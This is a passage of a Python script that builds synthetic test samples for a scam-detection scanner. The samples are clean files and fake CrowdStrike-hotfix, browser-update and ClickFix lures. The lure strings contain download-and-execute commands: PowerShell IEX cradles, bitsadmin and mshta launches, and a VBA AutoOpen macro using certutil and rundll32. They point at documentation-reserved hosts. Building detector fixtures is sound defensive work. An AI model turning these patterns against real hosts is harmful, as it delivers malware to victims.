#!/usr/bin/env python3
"""Build the synthetic, harmless scamscan samples.

Every sample is plain text or bytes written by this script: no real malware,
no real executables, no network access. Rebuilding gives byte-identical files
(fixed timestamps, fixed ZipCrypto header bytes, gzip mtime 0), as long as the
zlib version is the same.

    python samples/build.py            # (re)write every sample
    python samples/build.py --check    # exit 1 if a rebuild would change a file

Layout (paths relative to the repo root):
    samples/clean/   benign files that must never be flagged
    samples/lures/   synthetic fake-update lures modelled on public reports
    samples/bad/     malformed or unscannable inputs (encrypted, truncated ...)
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import sampleio

HERE = Path(__file__).resolve().parent

# 2024-07-19 04:09 UTC: the time of the faulty channel file update.
ZIP_DATE = (2024, 7, 19, 4, 9, 0)
ZIP_PASSWORD = b"scamscan"  # password of samples/bad/encrypted.zip

MARK = "scamscan synthetic sample - harmless text, not malware"


# --------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------

def crlf(text: str) -> bytes:
    """Windows line endings, as scripts and notes on Windows would have."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def lf(text: str) -> bytes:
    return text.encode("utf-8")


def make_zip(members: list[tuple[str, bytes]], deflate: bool = True) -> bytes:
    """A ZIP with fixed timestamps and attributes, so it is reproducible."""
    buf = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = method
            info.create_system = 0          # "made by" MS-DOS, like most Windows zips
            info.external_attr = 0x20       # FILE_ATTRIBUTE_ARCHIVE
            zf.writestr(info, data, compress_type=method, compresslevel=9 if deflate else None)
    return buf.getvalue()


def make_gzip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf, mtime=0, compresslevel=9) as gz:
        gz.write(data)
    return buf.getvalue()


# --- traditional PKWARE encryption ("ZipCrypto"), deterministic ------------
# `zip -P` seeds the 12-byte encryption header from the clock, so its output
# changes on every run. This writes the same format with a header derived from
# the member name, so the archive is reproducible. `unzip -P scamscan` opens it.

_CRC_TABLE: list[int] = []
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    _CRC_TABLE.append(_c)


def _crc_byte(crc: int, b: int) -> int:
    return (crc >> 8) ^ _CRC_TABLE[(crc ^ b) & 0xFF]


class _ZipCrypto:
    def __init__(self, password: bytes) -> None:
        self.k0, self.k1, self.k2 = 0x12345678, 0x23456789, 0x34567890
        for b in password:
            self._update(b)

    def _update(self, b: int) -> None:
        self.k0 = _crc_byte(self.k0, b)
        self.k1 = (self.k1 + (self.k0 & 0xFF)) & 0xFFFFFFFF
        self.k1 = (self.k1 * 134775813 + 1) & 0xFFFFFFFF
        self.k2 = _crc_byte(self.k2, self.k1 >> 24)

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for p in data:
            t = (self.k2 | 2) & 0xFFFF
            out.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            self._update(p)
        return bytes(out)


def _dos_datetime(dt: tuple[int, int, int, int, int, int]) -> tuple[int, int]:
    y, mo, d, h, mi, s = dt
    return (h << 11) | (mi << 5) | (s // 2), ((y - 1980) << 9) | (mo << 5) | d


def make_zipcrypto_zip(members: list[tuple[str, bytes]], password: bytes) -> bytes:
    """Stored members, each encrypted with ZipCrypto (general purpose flag bit 0)."""
    dos_time, dos_date = _dos_datetime(ZIP_DATE)
    out = bytearray()
    central = bytearray()
    for name, data in members:
        fname = name.encode("ascii")
        crc = zlib.crc32(data) & 0xFFFFFFFF
        header = hashlib.sha256(b"scamscan-zipcrypto:" + fname).digest()[:11] + bytes([crc >> 24])
        enc = _ZipCrypto(password).encrypt(header + data)
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x0001, 0, dos_time, dos_date,
                           crc, len(enc), len(data), len(fname), 0)
        out += fname + enc
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x0001, 0,
                               dos_time, dos_date, crc, len(enc), len(data), len(fname),
                               0, 0, 0, 0, 0x20, offset)
        central += fname
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                       len(central), cd_offset, 0)
    return bytes(out)


# --------------------------------------------------------------------------
# sample contents
# --------------------------------------------------------------------------

CLEAN_NOTE = f"""Team note - week 30

- Move the Thursday stand-up to 10:00.
- The printer on floor 2 needs new toner; facilities has been told.
- Remember to file travel expenses before the end of the month.

({MARK})
"""

# Modelled on the public remediation steps (safe mode / WinRE, delete the channel
# file, reboot). Must stay clean: it deletes, it does not download or run anything.
CLEAN_GUIDANCE = f"""CrowdStrike Falcon content update for Windows hosts - workaround steps
=====================================================================

Applies to Windows hosts that crash (blue screen) after the Falcon channel file
update of 19 July 2024. Follow only guidance published by CrowdStrike on the
official support portal, https://supportportal.crowdstrike.com/ , or by your own
IT department. Never run "hotfix" tools sent by e-mail.

Workaround for an individual host:
 1. Boot Windows into Safe Mode or the Windows Recovery Environment (WinRE).
 2. Open %WINDIR%\\System32\\drivers\\CrowdStrike
    (usually C:\\Windows\\System32\\drivers\\CrowdStrike).
 3. Locate the file matching C-00000291*.sys and delete it.
 4. Boot the host normally.

BitLocker-protected hosts may ask for the recovery key before step 2.
Hosts that came online after 05:27 UTC on 19 July 2024 are not affected.

({MARK})
"""

CLEAN_GUIDANCE_ES = f"""Solucion temporal para equipos Windows con pantalla azul (CrowdStrike Falcon)

Siga solo las indicaciones publicadas en el portal oficial de soporte,
https://supportportal.crowdstrike.com/ , o las de su departamento de TI.

 1. Arranque Windows en Modo Seguro o en el Entorno de Recuperacion de Windows.
 2. Acceda al directorio C:\\Windows\\System32\\drivers\\CrowdStrike.
 3. Localice el archivo C-00000291*.sys y eliminelo.
 4. Inicie el equipo con normalidad.

No descargue ni ejecute "parches" recibidos por correo.

({MARK})
"""

CLEAN_BAT = f"""@echo off
rem Falcon channel file 291 workaround: delete only, as in the public guidance.
rem Run from Safe Mode or WinRE. ({MARK})
set CSDIR=%WINDIR%\\System32\\drivers\\CrowdStrike
if not exist "%CSDIR%" (
    echo CrowdStrike driver folder not found
    exit /b 1
)
del /f /q "%CSDIR%\\C-00000291*.sys"
echo Done. Restart the computer normally.
"""

CLEAN_PS1 = f"""# Falcon channel file 291 workaround: delete only, as in the public guidance.
# Run from Safe Mode or WinRE. ({MARK})
$csDir = Join-Path $env:WINDIR 'System32\\drivers\\CrowdStrike'
if (-not (Test-Path $csDir)) {{
    Write-Host 'CrowdStrike driver folder not found'
    exit 1
}}
Get-ChildItem -Path $csDir -Filter 'C-00000291*.sys' | Remove-Item -Force
Write-Host 'Done. Restart the computer normally.'
"""

CLEAN_HTML = f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Summer picnic 2024</title>
</head>
<body>
<h1>Summer picnic 2024</h1>
<p>Thanks to everyone who came! The photos are ready.</p>
<ul>
  <li><a href="/files/picnic-photos.zip">Download all photos (ZIP, 40 MB)</a></li>
  <li><a href="/files/agenda.pdf">Agenda (PDF)</a></li>
</ul>
<p>Please update your contact details on the intranet before Friday.</p>
<!-- {MARK} -->
</body>
</html>
"""

CLEAN_ZIP_MEMBERS = [
    ("docs/readme.txt", lf(f"Project documents for the Q3 review.\n({MARK})\n")),
    ("docs/minutes.txt", lf("Minutes: budget approved; next review in October.\n")),
]

GZ_TEXT = f"""Server maintenance log

2024-07-20 02:00  patched web01, rebooted, all services up
2024-07-20 02:30  patched web02, rebooted, all services up
({MARK})
"""

# Spanish instructions in the style reported for crowdstrike-hotfix.zip (BBVA /
# LATAM Remcos campaign): urge staff to run Setup.exe to avoid connection errors.
HOTFIX_INSTRUCTIONS_ES = f"""INSTRUCCIONES - Actualización urgente de CrowdStrike (hotfix)

Estimado colaborador:

Debido a la falla de CrowdStrike Falcon que afecta a los equipos Windows, todos
los empleados y socios deben instalar esta actualización para evitar errores de
conexión con la intranet.

Pasos:
 1. Descomprima el archivo crowdstrike-hotfix.zip en el escritorio.
 2. Ejecute el archivo Setup.exe como administrador.
 3. Espere a que termine la instalación y reinicie el equipo.

No apague el equipo durante la instalación.
Soporte Técnico

({MARK})
"""

# Harmless stand-in for the loader: "MZ" and a comment, not a PE file.
SETUP_EXE_STANDIN = (
    b"MZ" + b"\x00" * 14
    + f"\r\n{MARK}: stand-in for Setup.exe in the hotfix lure; "
      "it is not a Windows executable and does nothing.\r\n".encode("ascii")
)

FIX_BAT = f"""@echo off
rem CrowdStrike BSOD automatic fix tool v2 ({MARK})
rem Deletes the faulty channel file, then "installs the hotfix".
set CSDIR=%WINDIR%\\System32\\drivers\\CrowdStrike
del /f /q "%CSDIR%\\C-00000291*.sys"
bitsadmin /transfer csfix /download /priority high https://crowdstrikefix.com/dl/falcon-hotfix.exe "%TEMP%\\falcon-hotfix.exe"
start "" "%TEMP%\\falcon-hotfix.exe"
echo Hotfix installed. Restart the computer.
"""

# _ENC is base64 of a harmless sentence, not of a command.
_ENC = "U2NhbXNjYW4gc3ludGhldGljIHNhbXBsZTogbm90IGEgcmVhbCBjb21tYW5kLg=="

FIX_PS1 = f"""# CrowdStrike Falcon BSOD recovery script ({MARK})
# Removes the faulty channel file and applies the "official hotfix".
$csDir = Join-Path $env:WINDIR 'System32\\drivers\\CrowdStrike'
Get-ChildItem -Path $csDir -Filter 'C-00000291*.sys' | Remove-Item -Force
$url = 'https://crowdstrike-helpdesk.com/hotfix/FalconFix.exe'
$out = Join-Path $env:TEMP 'FalconFix.exe'
Invoke-WebRequest -Uri $url -OutFile $out -UseBasicParsing
Start-Process -FilePath $out -WindowStyle Hidden
powershell.exe -NoProfile -WindowStyle Hidden -enc {_ENC}
"""

# Generic "fix" script: download cradle + encoded command, no brand, no deletion.
CRADLE_PS1 = f"""# Browser repair / update fix ({MARK})
# Paste into PowerShell to fix "your connection is not private" errors.
$p = 'http://198.51.100.23/update/fix.ps1'
IEX (New-Object Net.WebClient).DownloadString($p)
powershell -w hidden -enc {_ENC}
"""

# Exported VBA module in the style of the Daolpu "recovery manual" lure:
# AutoOpen, write base64 to %TEMP%, certutil -decode, run with Shell.
# The URL is a documentation address (RFC 5737) and the payload is text.
DAOLPU_VBA = f'''Attribute VB_Name = "NewMacros"
' New Recovery Tool to help with CrowdStrike issue impacting Windows
' ({MARK})
Option Explicit

Sub AutoOpen()
    RecoverSystem
End Sub

Sub Document_Open()
    RecoverSystem
End Sub

Private Sub RecoverSystem()
    Dim http As Object, fso As Object, f As Object
    Dim b64 As String, dll As String
    b64 = Environ("TEMP") & "\\mscorsvc.txt"
    dll = Environ("TEMP") & "\\mscorsvc.dll"
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", "http://192.0.2.10/recovery/mscorsvc.txt", False
    http.Send
    Set fso = CreateObject("Scripting.FileSystemObject")
    Set f = fso.CreateTextFile(b64, True)
    f.Write http.responseText
    f.Close
    Shell "cmd.exe /c certutil -decode """ & b64 & """ """ & dll & """", vbHide
    Shell "rundll32.exe """ & dll & """,DllMain", vbHide
End Sub
'''

CS_UPDATE_PAGE = f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>CrowdStrike Falcon - Emergency Hotfix</title>
<style>body{{font-family:Arial,sans-serif;background:#111;color:#eee}}
.btn{{background:#e01f26;color:#fff;padding:12px 24px;text-decoration:none}}</style>
</head>
<body>
<h1>CrowdStrike Falcon Sensor Hotfix</h1>
<p>Your Windows host is affected by the Falcon sensor update issue (BSOD).
Download and run the emergency hotfix now to restore your system.
This recovery tool removes the faulty channel file automatically.</p>
<p><a class="btn" href="/download/CrowdStrike-Falcon-Hotfix.zip" download="CrowdStrike-Falcon-Hotfix.zip">Download hotfix</a></p>
<p>Password for the archive: 2024</p>
<!-- {MARK} -->
</body>
</html>
"""

BROWSER_UPDATE_PAGE = f"""<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>Update required</title>
</head>
<body style="font-family:Segoe UI,Arial,sans-serif;text-align:center">
<h2>Your browser is out of date!</h2>
<p>Your version of Chrome is no longer supported. An update is required to
view this page. Please install the latest version.</p>
<a id="upd" href="/assets/Chrome.Update.js">Update Chrome</a>
<script>
  // auto-start the "update" download
  setTimeout(function () {{ window.location.href = "/assets/Chrome.Update.js"; }}, 3000);
</script>
<!-- {MARK} -->
</body>
</html>
"""

# Lure e-mail whose link is a defanged known-bad domain from rules/iocs/domains.csv.
SUPPORT_EML = f"""From: "CrowdStrike Support" <support@crowdstrike.com.vc>
To: it-staff@example.com
Subject: URGENT: Falcon sensor BSOD fix - action required
Date: Sat, 20 Jul 2024 09:15:00 +0000
Message-ID: <20240720091500.4711@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Dear customer,

To recover hosts affected by the Falcon content update, download the fix tool
from our recovery portal:

    hxxps://crowdstrike-bsod[.]com/recovery/fix-tool

and run it on every affected machine. This is required to restore support.

CrowdStrike Support Team

({MARK})
"""

TRUNC_ZIP_MEMBERS = [
    ("report/part1.txt", lf(("Quarterly report, part one. " * 40) + f"\n({MARK})\n")),
    ("report/part2.txt", lf(("Quarterly report, part two. " * 40) + "\n")),
]

ENCRYPTED_MEMBERS = [
    ("readme.txt", lf(f"This archive is password protected.\n({MARK})\n")),
]


# --------------------------------------------------------------------------
# rule pack extension: more CrowdStrike-outage campaign steps, generic tricks
# --------------------------------------------------------------------------
# URLs use RFC 5737 documentation IPs, reserved names (.example, .invalid) or
# defanged forms; base64 blobs decode to English sentences or to a ZIP of text.

def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def b64_wrapped(data: bytes, width: int = 76) -> str:
    s = b64(data)
    return "\n".join(s[i:i + width] for i in range(0, len(s), width))


STANDIN_ZIP = make_zip([("README.txt", lf(
    f"{MARK}.\nStand-in for the archive a lure would deliver: this text is the whole content.\n"))])

# UTF-16LE like a real -EncodedCommand, but of a sentence, not of a command.
ENC_LONG = b64((
    "scamscan synthetic sample: this is harmless text that stands in for an encoded "
    "PowerShell command; it is not a command and does nothing.").encode("utf-16-le"))

# Lumma / CypherIt lure (crowdstrike-office365.com): MSI "Falcon sensor update" loader.
# WiX-style source: a custom action expands a cabinet into %TEMP% and runs an AutoIt
# interpreter renamed .pif on a script. Nothing here is buildable or runnable.
FALCON_WXS = f"""<?xml version="1.0" encoding="utf-8"?>
<!-- {MARK} -->
<!-- Modelled on the fake "CrowdStrike Falcon Sensor Update" MSI loader (Lumma stealer, July 2024). -->
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
  <Product Id="*" Name="CrowdStrike Falcon Sensor Update" Language="1033" Version="7.16.18613.0"
           Manufacturer="CrowdStrike, Inc." UpgradeCode="5CA1AB1E-0000-4000-8000-000000000291">
    <Package InstallerVersion="500" Compressed="yes" InstallScope="perMachine"
             Description="Falcon sensor update: fixes the Windows blue screen caused by channel file 291" />
    <Media Id="1" Cabinet="falcon.cab" EmbedCab="yes" />
    <Directory Id="TARGETDIR" Name="SourceDir">
      <Directory Id="TempFolder">
        <Component Id="UpdatePayload" Guid="5CA1AB1E-0000-4000-8000-000000000292">
          <File Id="UpdateCab" Name="Update.cab" Source="Update.cab" />
        </Component>
      </Directory>
    </Directory>
    <Feature Id="Main" Level="1"><ComponentRef Id="UpdatePayload" /></Feature>
    <CustomAction Id="ApplyFalconUpdate" Directory="TempFolder" Execute="deferred" Impersonate="yes" Return="ignore"
                  ExeCommand="cmd.exe /c expand &quot;[TempFolder]Update.cab&quot; -F:* &quot;[TempFolder]fsu&quot; &amp;&amp; &quot;[TempFolder]fsu\\Falcon.pif&quot; &quot;[TempFolder]fsu\\u.a3x&quot;" />
    <InstallExecuteSequence>
      <Custom Action="ApplyFalconUpdate" After="InstallFiles">NOT Installed</Custom>
    </InstallExecuteSequence>
  </Product>
</Wix>
"""

# German-entity spear-phishing: inauthentic "CrowdStrike Crash Reporter" Inno Setup
# installer, German localisation, asks for a "Backend-Server" before doing anything.
CRASH_REPORTER_ISS = f"""; CrowdStrike Crash Reporter - Setup-Skript
; {MARK}
; Modelled on the inauthentic Falcon Crash Reporter installer sent to a German entity (July 2024).
[Setup]
AppName=CrowdStrike Crash Reporter
AppVersion=7.16.18613
AppPublisher=CrowdStrike, Inc.
DefaultDirName={{autopf}}\\CrowdStrike\\CrashReporter
OutputBaseFilename=CrowdStrike-Crash-Reporter-Setup
PrivilegesRequired=admin

[Languages]
Name: "de"; MessagesFile: "compiler:Languages\\German.isl"

[Messages]
WelcomeLabel2=Dieses Programm installiert den CrowdStrike Crash Reporter. Er sendet die Absturzberichte (Bluescreen) nach dem Falcon-Sensor-Update an CrowdStrike.

[Files]
Source: "payload.bin"; DestDir: "{{tmp}}"; Flags: deleteafterinstall

[Run]
Filename: "{{tmp}}\\crashreporter.exe"; Parameters: "--server {{code:GetBackendServer}}"; Flags: runhidden

[Code]
var ServerPage: TInputQueryWizardPage;

procedure InitializeWizard;
begin
  ServerPage := CreateInputQueryPage(wpWelcome, 'Backend-Server', 'Backend-Server eingeben',
    'Den Backend-Server erhalten Sie von Ihrer IT-Abteilung.');
  ServerPage.Add('Backend-Server:', False);
end;

function GetBackendServer(Param: String): String;
begin
  Result := ServerPage.Values[0];
end;
"""

FALCON_HTA = f"""<html>
<head>
<title>CrowdStrike Falcon Sensor Update</title>
<HTA:APPLICATION ID="csupdate" APPLICATIONNAME="Falcon Sensor Update" BORDER="none"
  SHOWINTASKBAR="no" WINDOWSTATE="minimize" />
<script language="VBScript">
' {MARK}
Sub Window_OnLoad
  Dim sh
  Set sh = CreateObject("WScript.Shell")
  sh.Run "powershell -nop -w hidden -c \"\"iwr http://198.51.100.77/falcon/update.ps1 -UseBasicParsing | iex\"\"\", 0, False
  MsgBox "CrowdStrike Falcon sensor updated. Please restart your computer.", 64, "CrowdStrike"
  window.close
End Sub
</script>
</head>
<body></body>
</html>
"""

CRASH_REPORTER_PAGE = f"""<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<title>CrowdStrike Crash Reporter - Download</title>
<script src="jquery-3.7.1.min.js"></script>
</head>
<body>
<h1>CrowdStrike Crash Reporter</h1>
<p>Nach dem fehlerhaften Falcon-Sensor-Update vom 19. Juli installieren Sie bitte den
CrowdStrike Crash Reporter, damit die Absturzberichte (Bluescreen) ausgewertet werden.</p>
<p>Das Installationskennwort erhalten Sie von Ihrer IT-Abteilung.</p>
<button id="download" onclick="csDownload()">Herunterladen</button>
<!-- {MARK} -->
</body>
</html>
"""

# The "jQuery" that really builds the download in the browser (HTML smuggling).
FAKE_JQUERY = (
    "/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n"
    f"/* {MARK}: stand-in for the fake jQuery that assembles the installer download */\n"
    "function csDownload(){var d=\"" + b64(STANDIN_ZIP) + "\";"
    "var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);"
    "var blob=new Blob([u],{type:\"application/zip\"});var a=document.createElement(\"a\");"
    "a.href=URL.createObjectURL(blob);a.download=\"CrowdStrike-Crash-Reporter.zip\";"
    "document.body.appendChild(a);a.click();}\n"
)

# Handala wiper campaign: mail from crowdstrike.com.vc, link to Crowdstrike.zip, run Crowdstrike.exe.
WIPER_EML = f"""From: "CrowdStrike" <update@crowdstrike.com.vc>
To: it-team@example.com
Subject: Urgent: CrowdStrike Falcon update - install immediately
Date: Sun, 21 Jul 2024 06:30:00 +0000
Message-ID: <20240721063000.1107@crowdstrike.com.vc>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Dear IT team,

Following the Falcon sensor content update issue of 19 July, CrowdStrike has
released an update tool that restores affected Windows hosts.

Download the update package from:

    hxxps://crowdstrike.com[.]vc/downloads/Crowdstrike.zip

Extract the archive and run Crowdstrike.exe as administrator on every Windows
machine immediately. The tool takes a few minutes and restarts the computer.

CrowdStrike Customer Support

({MARK})
"""

# Connecio campaign: "CrowdStrike Falcon.zip" attached to an urgent "hotfix" mail.
ATTACH_EML = f"""From: "Falcon Support" <falcon-support@cs-support-desk.example>
To: helpdesk@example.com
Subject: ACTION REQUIRED: CrowdStrike Falcon hotfix for the blue screen issue
Date: Tue, 23 Jul 2024 08:05:00 +0000
Message-ID: <20240723080500.2291@cs-support-desk.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_scamscan_1"

--=_scamscan_1
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Hello,

Your Windows hosts need the attached CrowdStrike Falcon hotfix as soon as
possible. Open the attached archive, run the Falcon update installer and
restart the computer when it finishes.

Falcon Support

({MARK})

--=_scamscan_1
Content-Type: application/zip; name="CrowdStrike Falcon.zip"
Content-Disposition: attachment; filename="CrowdStrike Falcon.zip"
Content-Transfer-Encoding: base64

{b64_wrapped(STANDIN_ZIP)}
--=_scamscan_1--
"""

# Clean close call: a genuine-style customer notice (urgent, update, brand, link to
# the official guidance hub) with no attachment and no download of a file to run.
CS_NOTICE_EML = f"""From: "CrowdStrike Customer Support" <support@crowdstrike.com>
To: it-team@example.com
Subject: Falcon content update for Windows hosts - remediation guidance
Date: Sat, 20 Jul 2024 10:00:00 +0000
Message-ID: <20240720100000.3301@crowdstrike.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Dear customer,

A content update for the Falcon sensor on Windows caused some hosts to crash.
The update has been reverted. Please review the remediation steps immediately
and install nothing that reaches you by e-mail: CrowdStrike will never send
you a hotfix to run as an attachment or a download link.

Official guidance hub:
https://www.crowdstrike.com/falcon-content-update-remediation-and-guidance-hub/

CrowdStrike Customer Support

({MARK})
"""

CLICKFIX_CAPTCHA = f"""<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>Just a moment...</title></head>
<body>
<div id="box">
<h2>Verify you are human</h2>
<p>Verification failed. Please complete these verification steps:</p>
<ol>
  <li>Press Windows Button + R</li>
  <li>Press CTRL + V</li>
  <li>Press Enter</li>
</ol>
<button onclick="verify()">I'm not a robot</button>
</div>
<script>
  // {MARK}
  const cmd = "powershell -w hidden -c \\"iwr http://203.0.113.45/v.txt -UseBasicParsing | iex\\" # I am not a robot - reCAPTCHA Verification ID: 4817";
  function verify() {{ navigator.clipboard.writeText(cmd); document.getElementById("box").className = "steps"; }}
</script>
</body>
</html>
"""

CLICKFIX_FIXIT = f"""<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>Document error</title></head>
<body>
<div class="err">
<h2>The document could not be displayed correctly</h2>
<p>A font update is missing. Click "Fix it" to copy the repair command, then press
Win+R, paste it with Ctrl+V and press Enter.</p>
<button id="fix">Fix it</button>
</div>
<textarea id="c" style="position:absolute;left:-9999px">mshta https://203.0.113.46/fix/font-update.hta</textarea>
<script>
  // {MARK}
  document.getElementById("fix").onclick = function () {{
    var t = document.getElementById("c"); t.select(); document.execCommand("copy");
  }};
</script>
</body>
</html>
"""

# Clean close call: a keyboard-shortcut help page with Win+R, Ctrl+V, Enter and a copy button.
SHORTCUTS_HTML = f"""<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Windows keyboard shortcuts</title></head>
<body>
<h1>Windows keyboard shortcuts</h1>
<table>
  <tr><td>Win+R</td><td>Open the Run dialog box</td></tr>
  <tr><td>Win+E</td><td>Open File Explorer</td></tr>
  <tr><td>Ctrl+C</td><td>Copy the selected item</td></tr>
  <tr><td>Ctrl+V</td><td>Paste the selected item</td></tr>
  <tr><td>Enter</td><td>Run the command or open the selected item</td></tr>
</table>
<p>To open your temporary files folder, press Win+R, paste the path below with Ctrl+V
and press Enter.</p>
<code id="p">%LOCALAPPDATA%\\Temp</code>
<button onclick="navigator.clipboard.writeText(document.getElementById('p').textContent)">Copy path</button>
<!-- {MARK} -->
</body>
</html>
"""

# Clean close call: security-awareness text describing the ClickFix steps.
CLICKFIX_AWARENESS = f"""Security awareness: fake CAPTCHA pages (ClickFix)

Some malicious websites show a fake CAPTCHA that asks you to "verify you are human"
by pressing Win+R, then Ctrl+V, then Enter. This pastes and runs a command that the
page copied to your clipboard. A real CAPTCHA never asks you to do this. Close the
page and report it to the IT service desk.

({MARK})
"""

# ClearFake-style page: "update your browser" with a script/archive download.
CLEARFAKE_PAGE = f"""<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>Microsoft Edge</title></head>
<body style="font-family:Segoe UI,Arial,sans-serif">
<h1>Something went wrong while displaying this page.</h1>
<p>To view this page, you need to update your browser.</p>
<a class="button" href="https://cdn.assets-update.invalid/Edge.Update.7c1e0.zip"
   download="Edge.Update.7c1e0.zip">Update Edge</a>
<!-- {MARK} -->
</body>
</html>
"""

# Clean close call: a real-style browser help page linking to the vendor.
BROWSER_HELP_HTML = f"""<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Update Google Chrome - Help</title></head>
<body>
<h1>Update Google Chrome</h1>
<p>To make sure you are protected by the latest security updates, Google Chrome can
automatically update when a new version of the browser is available on your device.</p>
<h2>Get a Chrome update when available</h2>
<ol>
  <li>On your computer, open Chrome.</li>
  <li>At the top right, select More, then Help, then About Google Chrome.</li>
  <li>Select Update Google Chrome, then Relaunch.</li>
</ol>
<p>If you cannot update, download Chrome again from
<a href="https://www.google.com/chrome/">google.com/chrome</a> or use the
<a href="https://dl.google.com/chrome/install/ChromeStandaloneSetup64.exe">offline installer</a>.</p>
<!-- {MARK} -->
</body>
</html>
"""

# SocGholish-style payload name: a Windows Script Host .js named like a browser update.
# The script only echoes a line.
SOCGHOLISH_JS = f"""// {MARK}
// Stand-in for a SocGholish "Chrome update" JScript file: it only echoes this line.
var sh = new ActiveXObject("WScript.Shell");
WScript.Echo("scamscan synthetic sample - this file does nothing");
"""

DOUBLE_EXT_JS = f"""// {MARK}
// Stand-in for a script disguised as a document (double extension); it only echoes a line.
WScript.Echo("scamscan synthetic sample - this file does nothing");
"""

DOUBLE_EXT_TEXT = f"{MARK}: stand-in for an executable disguised as a document; it is text.\r\n"

TEAMS_FIX_PS1 = f"""# Microsoft Teams black-screen fix ({MARK})
# Run in PowerShell to repair the Teams cache.
Stop-Process -Name ms-teams -ErrorAction SilentlyContinue
iwr -Uri http://203.0.113.80/teams/fix.ps1 -UseBasicParsing | iex
"""

ZOOM_REPAIR_PS1 = f"""# Zoom audio repair tool ({MARK})
# Downloads the repair tool and runs it.
$dst = Join-Path $env:TEMP 'ZoomRepair.exe'
Start-BitsTransfer -Source 'https://zoom-repair.example/dl/ZoomRepair.exe' -Destination $dst
Start-Process -FilePath $dst -ArgumentList '/quiet'
"""

OUTLOOK_FIX_CMD = f"""@echo off
rem Outlook profile fix ({MARK})
powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {ENC_LONG}
echo Outlook has been repaired.
"""

PRINTER_FIX_BAT = f"""@echo off
rem Printer spooler fix ({MARK})
mshta.exe https://203.0.113.61/fix/spooler.hta
rundll32.exe url.dll,OpenURL http://203.0.113.61/fix/update.hta
echo Printer fixed.
"""

# Clean close call: documentation with real installer one-liners (Scoop, Chocolatey).
INSTALLER_DOCS = f"""Installing command-line tools on Windows
=========================================

Scoop (run in a normal PowerShell window):

    Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser
    irm https://get.scoop.sh | iex

Chocolatey (run in an administrative PowerShell window):

    Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))

To update Scoop itself later, run `scoop update`. To fix a broken install, see
http://scoop.sh/ and the Chocolatey troubleshooting page.

({MARK})
"""

MINIMAL_PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    + f"% {MARK}\n".encode("ascii")
    + b"trailer << /Root 1 0 R >>\n%%EOF\n"
)


# --------------------------------------------------------------------------
# build
# --------------------------------------------------------------------------

def build() -> dict[str, bytes]:
    s: dict[str, bytes] = {}

    # clean
    s["clean/note.txt"] = lf(CLEAN_NOTE)
    s["clean/crowdstrike_remediation_guidance.txt"] = lf(CLEAN_GUIDANCE)
    s["clean/guia_remediacion_es.txt"] = lf(CLEAN_GUIDANCE_ES)
    s["clean/remediation_delete_only.bat"] = crlf(CLEAN_BAT)
    s["clean/remediation_delete_only.ps1"] = crlf(CLEAN_PS1)
    s["clean/page.html"] = lf(CLEAN_HTML)
    s["clean/docs.zip"] = make_zip(CLEAN_ZIP_MEMBERS)
    s["clean/maintenance_log.txt.gz"] = make_gzip("maintenance_log.txt", lf(GZ_TEXT))

    # lures
    instructions = crlf(HOTFIX_INSTRUCTIONS_ES)
    hotfix_zip = make_zip([("instrucciones.txt", instructions), ("Setup.exe", SETUP_EXE_STANDIN)])
    s["lures/crowdstrike-hotfix.zip"] = hotfix_zip
    s["lures/crowdstrike_hotfix_es/instrucciones.txt"] = instructions
    s["lures/crowdstrike_fix.bat"] = crlf(FIX_BAT)
    s["lures/crowdstrike_fix.ps1"] = crlf(FIX_PS1)
    s["lures/browser_fix_cradle.ps1"] = crlf(CRADLE_PS1)
    s["lures/daolpu_recovery_macro.bas"] = crlf(DAOLPU_VBA)
